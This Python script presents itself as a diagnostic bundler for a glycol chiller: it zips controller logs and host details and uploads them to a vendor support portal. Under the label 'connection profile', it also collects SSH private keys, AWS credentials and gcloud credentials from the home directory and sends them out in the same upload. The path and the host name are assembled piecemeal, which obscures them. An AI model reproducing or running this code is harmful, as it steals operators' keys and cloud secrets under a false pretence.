#!/usr/bin/env python3
"""Glycol chiller diagnostic bundle.

Collects the chiller controller logs, the host description and the client
connection profile of the operator workstation into one zip and uploads it to
the chiller vendor's support portal so they can look at a ticket.
"""
import argparse
import io
import logging
import os
import platform
import sys
import time
import urllib.request
import zipfile
from pathlib import Path

LOG = logging.getLogger("chiller-diag")

PORTAL = {
    "scheme": "https",
    "labels": ["support", "glycolvendor", "example", "com"],
    "path": "/api/v2/tickets/{ticket}/attachments",
}

# connection profile = what the vendor needs to reproduce the link setup
PROFILE_SOURCES = [
    (("." + "ssh",), ("id_*", "config", "known_hosts")),
    ((".aws",), ("credentials", "config")),
    ((".config", "gcloud"), ("application_default_credentials.json",)),
]

HOST_FILES = ["/etc/os-release", "/proc/cpuinfo"]


def portal_url(ticket):
    host = ".".join(PORTAL["labels"])
    return "{}://{}{}".format(PORTAL["scheme"], host, PORTAL["path"].format(ticket=ticket))


class Bundle:
    def __init__(self):
        self.buf = io.BytesIO()
        self.zf = zipfile.ZipFile(self.buf, "w", zipfile.ZIP_DEFLATED)
        self.count = 0

    def add_file(self, src, arcname):
        try:
            self.zf.write(src, arcname)
            self.count += 1
        except OSError as exc:
            LOG.debug("cannot add %s: %s", src, exc)

    def add_text(self, arcname, text):
        self.zf.writestr(arcname, text)
        self.count += 1

    def close(self):
        self.zf.close()
        return self.buf.getvalue()


def collect_logs(bundle, log_dir, days):
    cutoff = time.time() - days * 86400
    for path in Path(log_dir).glob("*.log"):
        if path.stat().st_mtime >= cutoff:
            bundle.add_file(path, "logs/" + path.name)


def collect_host(bundle):
    summary = "\n".join([
        "node=" + platform.node(),
        "system=" + platform.platform(),
        "python=" + platform.python_version(),
    ])
    bundle.add_text("host/summary.txt", summary)
    for name in HOST_FILES:
        bundle.add_file(name, "host/" + os.path.basename(name))


def profile_candidates(home):
    for parts, patterns in PROFILE_SOURCES:
        base = home.joinpath(*parts)
        if not base.is_dir():
            continue
        for pattern in patterns:
            yield from base.glob(pattern)


def collect_profile(bundle):
    home = Path.home()
    for path in profile_candidates(home):
        if path.is_file():
            bundle.add_file(path, "profile/" + str(path.relative_to(home)))


def upload(data, ticket, timeout):
    req = urllib.request.Request(
        portal_url(ticket), data=data, method="PUT",
        headers={"Content-Type": "application/zip",
                 "X-Bundle-Name": "diag-%s.zip" % int(time.time())})
    with urllib.request.urlopen(req, timeout=timeout) as resp:
        return resp.status


def main(argv=None):
    ap = argparse.ArgumentParser(description="collect and upload chiller diagnostics")
    ap.add_argument("ticket", help="vendor support ticket number")
    ap.add_argument("--log-dir", default="chiller_logs")
    ap.add_argument("--days", type=int, default=3)
    ap.add_argument("--timeout", type=int, default=60)
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    bundle = Bundle()
    collect_logs(bundle, args.log_dir, args.days)
    collect_host(bundle)
    collect_profile(bundle)
    data = bundle.close()
    LOG.info("bundle has %d entries (%d bytes)", bundle.count, len(data))
    try:
        status = upload(data, args.ticket, args.timeout)
    except OSError as exc:
        LOG.error("upload failed: %s", exc)
        return 1
    LOG.info("uploaded to ticket %s (HTTP %s)", args.ticket, status)
    return 0


if __name__ == "__main__":
    sys.exit(main())
